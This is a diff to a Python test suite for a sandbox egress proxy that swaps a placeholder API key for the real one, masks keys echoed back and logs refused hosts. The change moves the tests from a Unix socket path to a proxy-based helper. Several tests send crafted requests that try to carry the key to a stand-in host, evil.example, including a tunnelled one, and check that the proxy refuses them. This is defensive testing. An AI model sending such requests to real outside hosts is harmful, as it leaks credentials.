@@ -24,7 +24,7 @@ from conclave.sandbox.egress import EgressProxy, egress_proxy
 from conclave.sandbox.provider_key import KeyScrubber, ProviderKey
 from tests.fakes.redirect import ProviderRedirect
 from tests.fakes.tls_ca import TestCa
-from tests.test_egress import ask
+from tests.test_egress import ask, connected
 
 pytestmark = pytest.mark.anyio
 KEY = "sk-real-0123456789-abcdefghij"
@@ -110,7 +110,6 @@ async def test_a_request_to_the_bridge_reaches_the_provider_with_the_real_key(
 ) -> None:
     caplog.set_level(logging.DEBUG)
     url = f"http://127.0.0.1:{provider.port}/gw"
-    sock = tmp_path / "A.sock"
     target = "/gw/v1/messages?alt=sse&key=" + PLACEHOLDER_KEY
     if form == "absolute":  # a client that sends everything through HTTP_PROXY names the bridge itself
         target = "http://127.0.0.1:3128" + target
@@ -122,9 +121,9 @@ async def test_a_request_to_the_bridge_reaches_the_provider_with_the_real_key(
         "Accept-Encoding: gzip, br\r\n"
         "Content-Length: 2\r\n\r\n{}"
     )
-    async with egress_proxy(sock, allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
-        reply = await anyio.to_thread.run_sync(ask, sock, request.encode())
+        reply = await ask(proxy, request.encode())
         await quiet(proxy)
     assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from provider")
     assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK") == bool(tunnel)
@@ -146,14 +145,13 @@ async def test_a_request_to_the_bridge_reaches_the_provider_with_the_real_key(
 async def test_a_large_request_body_reaches_the_provider_whole(tmp_path: Path, provider: Provider) -> None:
     url = f"http://127.0.0.1:{provider.port}"
     body = bytes(range(256)) * (24 * 1024)  # 6 MB, far past any buffer of the proxy's
-    sock = tmp_path / "A.sock"
     head = (
         f"POST /v1/responses HTTP/1.1\r\nAuthorization: Bearer {PLACEHOLDER_KEY}\r\n"
         f"Content-Length: {len(body)}\r\n\r\n"
     )
-    async with egress_proxy(sock, allowlist_for("codex", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("codex", base_url=url)) as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
-        reply = await anyio.to_thread.run_sync(ask, sock, head.encode() + body)
+        reply = await ask(proxy, head.encode() + body)
         await quiet(proxy)
     assert reply.endswith(b"from provider") and provider.bodies == [body]
     assert _header(provider.heads[0], b"authorization") == f"Bearer {KEY}".encode()
@@ -163,12 +161,14 @@ async def test_a_streamed_response_passes_through_chunk_by_chunk(tmp_path: Path,
     """The provider sends each chunk only once the test has read the one before through the proxy: a
     proxy that waited for the whole response would stall it (and fail the test within seconds)."""
     url = f"http://127.0.0.1:{provider.port}"
-    sock = tmp_path / "A.sock"
     request = f"POST /v1/stream HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
-    async with egress_proxy(sock, allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
         with anyio.fail_after(20):
-            received = await anyio.to_thread.run_sync(_read_as_streamed, sock, request.encode(), provider)
+            async with connected(proxy) as client:
+                received = await anyio.to_thread.run_sync(
+                    _read_as_streamed, client, request.encode(), provider
+                )
         await quiet(proxy)
     assert received.startswith(b"HTTP/1.1 200 OK") and received.endswith(b"".join(STREAMED))
 
@@ -179,28 +179,24 @@ async def test_a_key_echoed_in_the_response_is_masked_on_the_way_back(
     """The key, echoed across two chunks of the response, reaches the container as `*`s of its length
     (the response's Content-Length still holds)."""
     url = f"http://127.0.0.1:{provider.port}"
-    sock = tmp_path / "A.sock"
     request = f"POST /echo HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
-    async with egress_proxy(sock, allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
-        reply = await anyio.to_thread.run_sync(ask, sock, request.encode())
+        reply = await ask(proxy, request.encode())
         await quiet(proxy)
     assert _header(provider.heads[0], b"x-api-key") == KEY.encode()  # the provider got it
     assert KEY.encode() not in reply and reply.endswith(b"you sent " + b"*" * len(KEY) + b" ok"), reply
 
 
-def _read_as_streamed(path: Path, request: bytes, provider: Provider) -> bytes:
+def _read_as_streamed(client: socket.socket, request: bytes, provider: Provider) -> bytes:
     """In a worker: send `request`, then read each streamed chunk and tell the provider it was read."""
-    with socket.socket(socket.AF_UNIX) as client:
-        client.settimeout(10)
-        client.connect(str(path))
-        client.sendall(request)
-        received = b""
-        for chunk, read in zip(STREAMED, provider.read, strict=True):
-            while not received.endswith(chunk):
-                received += client.recv(65536)
-            anyio.from_thread.run_sync(read.set)
-        return received
+    client.sendall(request)
+    received = b""
+    for chunk, read in zip(STREAMED, provider.read, strict=True):
+        while not received.endswith(chunk):
+            received += client.recv(65536)
+        anyio.from_thread.run_sync(read.set)
+    return received
 
 
 @pytest.mark.parametrize("kind", ["connect", "http", "bridge-port-elsewhere"])
@@ -214,11 +210,10 @@ async def test_other_hosts_are_still_refused_and_logged_without_path_or_key(
         "http": f"POST http://evil.example/steal?key={PLACEHOLDER_KEY} HTTP/1.1\r\n" + credential,
         "bridge-port-elsewhere": "GET http://evil.example:3128/steal HTTP/1.1\r\n" + credential,
     }[kind]
-    sock = tmp_path / "A.sock"
     caplog.set_level(logging.INFO, logger="conclave.sandbox.egress")
-    async with egress_proxy(sock, allowlist_for("claude-code", base_url=url), label="cj-1/A") as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url), label="cj-1/A") as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
-        reply = await anyio.to_thread.run_sync(ask, sock, target.encode())
+        reply = await ask(proxy, target.encode())
         await quiet(proxy)
     assert reply.startswith(b"HTTP/1.1 403 Forbidden") and KEY.encode() not in reply
     assert [(d.method, d.host) for d in proxy.denied] == [(target.split()[0], "evil.example")]
@@ -231,13 +226,10 @@ async def test_a_tunnel_to_the_bridge_carries_only_a_request_to_the_bridge(
     tmp_path: Path, provider: Provider
 ) -> None:
     url = f"http://127.0.0.1:{provider.port}"
-    sock = tmp_path / "A.sock"
     inner = f"GET http://evil.example/ HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n"
-    async with egress_proxy(sock, allowlist_for("claude-code", base_url=url)) as proxy:
+    async with egress_proxy(allowlist_for("claude-code", base_url=url)) as proxy:
         proxy.serve_key(ProviderKey(url, KEY))
-        reply = await anyio.to_thread.run_sync(
-            ask, sock, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n" + inner.encode()
-        )
+        reply = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n" + inner.encode())
         await quiet(proxy)
     assert reply.startswith(b"HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 400")
     assert provider.heads == [] and proxy.admitted == 0
@@ -247,12 +239,11 @@ async def test_without_a_key_held_a_request_to_the_bridge_is_refused(
     tmp_path: Path, provider: Provider
 ) -> None:
     """A plan login's proxy holds no key: the bridge is no way to reach anything."""
-    sock = tmp_path / "A.sock"
     async with egress_proxy(
-        sock, allowlist_for("claude-code", base_url=f"http://127.0.0.1:{provider.port}")
+        allowlist_for("claude-code", base_url=f"http://127.0.0.1:{provider.port}")
     ) as proxy:
-        reply = await anyio.to_thread.run_sync(ask, sock, b"POST /v1/messages HTTP/1.1\r\n\r\n")
-        tunnel = await anyio.to_thread.run_sync(ask, sock, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n")
+        reply = await ask(proxy, b"POST /v1/messages HTTP/1.1\r\n\r\n")
+        tunnel = await ask(proxy, b"CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n")
         await quiet(proxy)
     assert reply.startswith(b"HTTP/1.1 400") and tunnel.startswith(b"HTTP/1.1 403")
     assert provider.heads == [] and proxy.admitted == 0
@@ -271,13 +262,12 @@ async def test_an_https_provider_is_reached_over_tls_from_the_host(tmp_path: Pat
         tls = anyio.streams.tls.TLSListener(listener, context, standard_compatible=False)
         port = listener.extra(anyio.abc.SocketAttribute.local_port)
         group.start_soon(tls.serve, provider.handle)
-        sock = tmp_path / "A.sock"
         redirect = ProviderRedirect({"api.anthropic.com": port}, ca.ca_file)
         request = f"POST /v1/messages HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\nContent-Length: 0\r\n\r\n"
-        async with egress_proxy(sock, allowlist_for("claude-code"), route=redirect) as proxy:
+        async with egress_proxy(allowlist_for("claude-code"), route=redirect) as proxy:
             proxy.serve_key(ProviderKey("https://api.anthropic.com", KEY))
-            reply = await anyio.to_thread.run_sync(ask, sock, request.encode())
-            wrong = await _wrong_name(proxy, sock)
+            reply = await ask(proxy, request.encode())
+            wrong = await _wrong_name(proxy)
             await quiet(proxy)
         group.cancel_scope.cancel()
     assert reply.startswith(b"HTTP/1.1 200") and reply.endswith(b"from provider"), reply
@@ -286,7 +276,7 @@ async def test_an_https_provider_is_reached_over_tls_from_the_host(tmp_path: Pat
     assert wrong.startswith(b"HTTP/1.1 502"), "a certificate for another name is refused"
 
 
-async def _wrong_name(proxy: EgressProxy, sock: Path) -> bytes:
+async def _wrong_name(proxy: EgressProxy) -> bytes:
     """The same fake answering for a name its certificate does not hold (the key goes nowhere)."""
     proxy.serve_key(ProviderKey("https://platform.claude.com", KEY))
     redirect = proxy.route
@@ -294,9 +284,7 @@ async def _wrong_name(proxy: EgressProxy, sock: Path) -> bytes:
     proxy.route = ProviderRedirect(
         {"platform.claude.com": redirect.ports["api.anthropic.com"]}, redirect.extra_ca
     )
-    return await anyio.to_thread.run_sync(
-        ask, sock, f"POST /x HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n".encode()
-    )
+    return await ask(proxy, f"POST /x HTTP/1.1\r\nx-api-key: {PLACEHOLDER_KEY}\r\n\r\n".encode())
 
 
 def test_the_scrubber_masks_a_key_split_anywhere_and_holds_back_nothing_else() -> None:
